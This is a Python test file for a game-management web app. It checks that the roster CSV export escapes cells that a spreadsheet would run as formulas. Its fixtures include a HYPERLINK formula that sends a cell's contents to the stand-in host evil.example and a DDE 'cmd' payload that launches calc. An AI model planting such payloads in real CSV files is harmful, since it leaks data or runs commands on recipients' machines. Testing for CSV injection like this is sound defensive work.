"""The roster CSV holds what players typed (names, postal addresses) and is opened in spreadsheets by the
coordinator and, in ``co-players`` games, by every player: no cell may start as a formula (OWASP, "CSV
injection"), whatever column it is in."""

from __future__ import annotations

import csv
import io
import warnings
from pathlib import Path

import pytest

from dippouch.store import variant_copy as variant_copy
from dippouch.store.people.persons import create_person, seat_person
from dippouch.web.routes.roster import csv_cell
from websupport import Site, check_api_answer

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"open me")'


def person_browser(site: Site, pid: int) -> TestClient:
    """A browser signed in as the person (the session a mailed sign-in link starts)."""
    c = TestClient(site.app, raise_server_exceptions=False)
    c.event_hooks = {"request": [], "response": [check_api_answer]}
    c.cookies.set("dp_session", site.web.access.start_session([], now=site.clock(), person_id=pid))
    c.get("/")
    return c


@pytest.fixture
def site(tmp_path: Path) -> Site:
    return Site(f"sqlite:///{tmp_path / 'web.db'}")


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (LINK, "'" + LINK),
        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("1 Powick Lane, Worcester", "1 Powick Lane, Worcester"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(cell: str | None, written: str) -> None:
    assert csv_cell(cell) == written


def test_a_formula_typed_as_an_address_or_a_name_comes_out_as_text_in_the_roster_file(site: Site) -> None:
    site.new_game("G", "w3k", movement="2d")
    powers = list(variant_copy.variant_of(site.web.store, "G").power_names)
    name = "=1+2"
    site.seat("G", powers[0], name)
    pid = create_person(site.web.store, name, now=site.clock(), email="mallory@example.org")
    seat_person(site.web.store, "G", powers[0], pid, now=site.clock())
    mallory = person_browser(site, pid)
    assert site.post_form(mallory, "/me/addresses", {"address": LINK}).status_code == 303
    text = site.coordinator.get("/games/G/roster.csv").text
    rows = list(csv.reader(io.StringIO(text)))
    (row,) = [r for r in rows if r[1] == powers[0]]
    assert row[2] == "'" + name
    assert row[5] == "'" + LINK
    # No cell of the file starts as a formula, in any column.
    assert not [c for r in rows for c in r if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
